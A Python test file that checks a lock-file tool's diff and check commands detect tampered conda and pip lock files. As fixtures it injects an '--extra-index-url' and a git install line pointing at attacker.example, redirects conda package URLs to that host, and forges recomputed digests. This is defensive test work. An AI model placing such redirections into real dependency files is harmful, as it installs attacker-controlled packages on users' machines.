"""Item 7: every byte that changes what gets installed shows in ``diff``, and ``check`` re-derives
each lock's body instead of trusting a digest anyone can recompute."""

from __future__ import annotations

import hashlib
from pathlib import Path

from lockgen.lockfiles import canonical_explicit, packages_digest, parse_explicit
from lockgen.lockfiles.requirements import Header, Pin, body_digest
from lockgen.plan import pip_request, plan
from lockgen.pypi.digests import pip_sources_digest
from lockgen.pypi.render import render_requirements
from lockgen.review.check import check
from lockgen.review.diff import diff_locks
from lockgen.review.sources import read_files
from tests.faults.figures import count
from tests.security.conftest import options

HASH_A = "sha256:" + "a" * 64
HASH_B = "sha256:" + "b" * 64
ATTACKER = "--extra-index-url https://attacker.example/simple"


def _requirements(pins: list[Pin], options_lines: tuple[str, ...] = (), pip_digest: str = "0" * 12) -> str:
    header = Header(
        ("environment.yml",), f"sha256:{'0' * 64} pip={pip_digest}", ("linux-64", "osx-64"), (), "test",
        options=options_lines,
    )  # fmt: skip
    return render_requirements(header, {"linux-64": pins, "osx-64": pins})


def _recompute_body_digest(text: str) -> str:
    """What an attacker does after editing the body: put the matching ``body=`` back."""
    lines = text.split("\n")
    count_header = next(i for i, line in enumerate(lines) if not line.startswith("#"))
    body = "\n".join(lines[count_header:])
    head = [
        " ".join(t if not t.startswith("body=") else f"body={body_digest(body)}" for t in line.split(" "))
        if line.startswith("# input-hash:")
        else line
        for line in lines[:count_header]
    ]
    return "\n".join(head) + "\n" + body


def test_diff_shows_a_changed_pip_hash() -> None:
    old = _requirements([Pin("rich", "13.0", None, (HASH_A,))])
    new = _requirements([Pin("rich", "13.0", None, (HASH_B,))])
    result = diff_locks(read_files("a", {"requirements.txt": old}), read_files("b", {"requirements.txt": new}))
    count("hostile review inputs refused")
    assert result.changed
    (change,) = result.targets[-1].changes
    assert change.kind == "rebuilt" and "aaaa" in change.old_label and "bbbb" in change.new_label


def test_diff_shows_an_added_extra_index_url() -> None:
    pins = [Pin("rich", "13.0", None, (HASH_A,))]
    old, new = _requirements(pins), _requirements(pins, (ATTACKER,))
    result = diff_locks(read_files("a", {"requirements.txt": old}), read_files("b", {"requirements.txt": new}))
    count("hostile review inputs refused")
    assert result.changed
    assert [(c.name, c.kind) for c in result.targets[-1].changes] == [(f"option: {ATTACKER}", "added")]


def test_diff_shows_any_other_line_pip_reads() -> None:
    pins = [Pin("rich", "13.0", None, (HASH_A,))]
    old = _requirements(pins)
    for extra in ("-e git+https://attacker.example/x.git#egg=x", "./evil-1.0-py3-none-any.whl", "rich==13.0"):
        result = diff_locks(
            read_files("a", {"requirements.txt": old}), read_files("b", {"requirements.txt": old + extra + "\n"})
        )
        assert result.changed, extra


def test_diff_shows_a_changed_conda_hash_on_the_same_url(project: Path) -> None:
    text = (project / "locks" / "linux-64.txt").read_text()
    lock = parse_explicit(text)
    entry = lock.entries[0]
    edited = text.replace(f"#{entry.md5}", "#" + "e" * 32)
    result = diff_locks(read_files("a", {"linux-64.txt": text}), read_files("b", {"linux-64.txt": edited}))
    count("hostile review inputs refused")
    assert result.changed
    (change,) = result.targets[0].changes
    assert change.kind == "rebuilt" and "eeee" in change.new_label


def test_diff_does_not_let_a_duplicate_line_hide_behind_the_real_one(project: Path) -> None:
    text = (project / "locks" / "linux-64.txt").read_text()
    first = parse_explicit(text).entries[0]
    evil = first.url.replace("https://conda.anaconda.org", "https://attacker.example") + "#" + "e" * 32
    edited = text.replace("@EXPLICIT\n", f"@EXPLICIT\n{evil}\n")
    result = diff_locks(read_files("a", {"linux-64.txt": text}), read_files("b", {"linux-64.txt": edited}))
    assert result.changed


def _forge_conda(text: str, old: str, new: str) -> str:
    """Swap a package line and recompute ``packages=`` as anyone can."""
    lock = parse_explicit(text.replace(old, new))
    lines = [f"{e.url}#{e.md5}" if e.md5 else f"{e.url}#sha256:{e.sha256}" for e in lock.entries]
    return text.replace(old, new).replace(
        f"packages={lock.recorded_packages_digest}", f"packages={packages_digest(lines)}"
    )


def test_check_flags_a_package_url_moved_to_another_host(project: Path, channel_root: Path) -> None:
    path = project / "locks" / "linux-64.txt"
    text = path.read_text()
    url = parse_explicit(text).entries[0].url
    path.write_text(_forge_conda(text, url, url.replace("https://conda.anaconda.org", "https://attacker.example")))
    assert (
        parse_explicit(path.read_text()).packages_digest() == parse_explicit(path.read_text()).recorded_packages_digest
    )
    stale = check(options(project, channel_root)).stale
    count("hostile review inputs refused")
    assert [(s.target, s.reason) for s in stale] == [("linux-64", "hand-edited")]
    assert "not under any of the platform's channels" in stale[0].detail


def test_check_flags_lines_lockgen_never_writes(project: Path, channel_root: Path) -> None:
    path = project / "locks" / "linux-64.txt"
    text = path.read_text()
    assert canonical_explicit(parse_explicit(text)) == text
    for edited in (text.replace("@EXPLICIT\n", "@EXPLICIT\n# a note\n"), text + "\n", text.replace("\n", "\r\n")):
        path.write_bytes(edited.encode())
        stale = check(options(project, channel_root)).stale
        assert [(s.target, s.reason) for s in stale] == [("linux-64", "hand-edited")], edited


ENV_PIP = "  - pip:\n    - rich\n"


def _pip_project(project: Path, channel_root: Path, options_lines: tuple[str, ...] = ()) -> Path:
    (project / "environment.yml").write_text((project / "environment.yml").read_text() + ENV_PIP)
    digest = pip_sources_digest(pip_request(plan(options(project, channel_root))))
    path = project / "locks" / "requirements.txt"
    path.write_text(_requirements([Pin("rich", "13.0", None, (HASH_A,))], options_lines, digest))
    assert check(options(project, channel_root)).ok
    return path


def test_check_flags_an_added_extra_index_url_even_with_a_recomputed_digest(project: Path, channel_root: Path) -> None:
    path = _pip_project(project, channel_root)
    text = path.read_text()
    head, _, pins = text.partition("rich==")
    path.write_text(_recompute_body_digest(f"{head}{ATTACKER}\nrich=={pins}"))
    stale = check(options(project, channel_root)).stale
    count("hostile review inputs refused")
    assert [(s.target, s.reason) for s in stale] == [("pip", "hand-edited")]
    assert "attacker.example" in stale[0].detail and "not one the pip: section asks for" in stale[0].detail


def test_check_flags_a_pip_body_edit(project: Path, channel_root: Path) -> None:
    path = _pip_project(project, channel_root)
    text = path.read_text()
    path.write_text(text.replace("a" * 64, "b" * 64))  # digest not recomputed
    assert [s.reason for s in check(options(project, channel_root)).stale] == ["hand-edited"]
    path.write_text(_recompute_body_digest(text + "-e ./local\n"))  # recomputed, but not lockgen's form
    stale = check(options(project, channel_root)).stale
    assert [s.reason for s in stale] == ["hand-edited"]
    path.write_text(_recompute_body_digest(text.replace("    --hash", "  --hash")))
    assert [s.reason for s in check(options(project, channel_root)).stale] == ["hand-edited"]


def test_a_hash_swapped_in_lockgens_own_form_is_verifys_job(project: Path, channel_root: Path) -> None:
    """What check cannot prove offline (documented): a well-formed body whose hash is not the index's."""
    path = _pip_project(project, channel_root)
    path.write_text(_recompute_body_digest(path.read_text().replace("a" * 64, hashlib.sha256(b"x").hexdigest())))
    assert check(options(project, channel_root)).ok


def test_lock_solves_again_a_lock_that_check_calls_hand_edited(project: Path, channel_root: Path) -> None:
    """`lock` and `check` judge a lock's form with one function: a forged line is not kept as up to date."""
    from lockgen.lock import lock

    path = project / "locks" / "linux-64.txt"
    original = path.read_text()
    url = parse_explicit(original).entries[0].url
    path.write_text(_forge_conda(original, url, url.replace("https://conda.anaconda.org", "https://attacker.example")))
    result = lock(options(project, channel_root))
    assert "linux-64.txt" in result.written
    assert path.read_text() == original


def test_diff_shows_a_marker_change_of_a_package_pinned_once(tmp_path: Path) -> None:
    """A marker decides which platforms install a pin: moving `xxhash` from every platform to Linux
    only (same version, same hashes) is a change `diff` must show, not "no changes"."""
    pin = "xxhash==4.0.1{marker} \\\n    --hash=sha256:" + "a" * 64 + "\n"
    old = read_files("old", {"requirements.txt": pin.format(marker="")})
    new = read_files("new", {"requirements.txt": pin.format(marker=' ; sys_platform == "linux"')})
    result = diff_locks(old, new)
    (change,) = [c for t in result.targets for c in t.changes]
    assert change.name == "xxhash"
    assert change.old_label == "4.0.1 ; all platforms"
    assert change.new_label == '4.0.1 ; sys_platform == "linux"'
